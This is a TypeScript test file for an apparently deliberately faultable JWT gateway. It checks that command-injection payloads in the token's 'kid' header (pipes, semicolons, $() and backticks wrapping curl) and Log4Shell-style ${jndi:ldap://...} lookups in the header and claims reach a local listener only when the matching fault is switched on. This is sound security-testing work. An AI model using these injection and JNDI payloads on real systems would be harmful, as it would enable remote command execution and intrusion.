import { createServer, type Server } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { FaultName } from '../faults.ts'
import { startWith } from '../testing/compare.ts'
import { mint, probe, type Probe } from '../testing/rig.ts'

let listener: Server
let address: string
let heard: string[] = []

beforeAll(async () => {
  listener = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (bytes) => {
      heard.push(bytes.toString('latin1'))
      if (bytes[0] === 0x30 && heard.length === 1) socket.write('0')
      else socket.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n')
    })
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const at = listener.address()
  address = `127.0.0.1:${typeof at === 'object' && at !== null ? at.port : 0}`
})
afterAll(() => new Promise((resolve) => listener.close(resolve)))
beforeEach(() => {
  heard = []
})

/** What the listener hears of a request to a gateway, sound or with the fault. */
const hearing = async (faults: readonly FaultName[], request: Probe): Promise<string> => {
  const gateway = await startWith(faults)
  try {
    await probe(gateway, request)
    return heard.join('\n')
  } finally {
    await gateway.close()
  }
}

describe('a kid that is pasted into a command', () => {
  it.each([['| curl URL'], ['; curl URL'], ['x && curl URL'], ['$(curl URL)'], ['`curl URL`']])(
    'calls who is named by %s',
    async (form) => {
      const kid = form.replace('URL', `http://${address}/mark`)
      expect(await hearing([], { token: mint({ kid }) })).toBe('')
      expect(await hearing(['kid-runs-command'], { token: mint({ kid }) })).toMatch(/^GET \/mark HTTP/)
    },
  )

  it('calls nobody where no command is in it, or another machine is meant', async () => {
    expect(await hearing(['kid-runs-command'], { token: mint({ kid: `http://${address}/` }) })).toBe('')
    const kid = '| curl http://idp.example.test/'
    expect(await hearing(['kid-runs-command'], { token: mint({ kid }) })).toBe('')
  })
})

describe('a log that expands lookups', () => {
  const lookup = () => `\${jndi:ldap://${address}/mark}`

  it.each([
    ['the header', () => ({ token: mint({ kid: lookup() }) })],
    ['the claims', () => ({ token: mint({}, { sub: lookup() }) })],
  ])('looks up what stands in %s', async (_, request) => {
    expect(await hearing([], request())).toBe('')
    expect(await hearing(['log-expands-lookups'], request())).toContain('mark')
  })

  it('looks up nothing at another machine, and nothing that is no lookup', async () => {
    const fault: readonly FaultName[] = ['log-expands-lookups']
    expect(await hearing(fault, { token: mint({}, { sub: '${jndi:ldap://idp.example.test/x}' }) })).toBe('')
    expect(await hearing(fault, { token: mint({}, { sub: `ldap://${address}/mark` }) })).toBe('')
  })
})
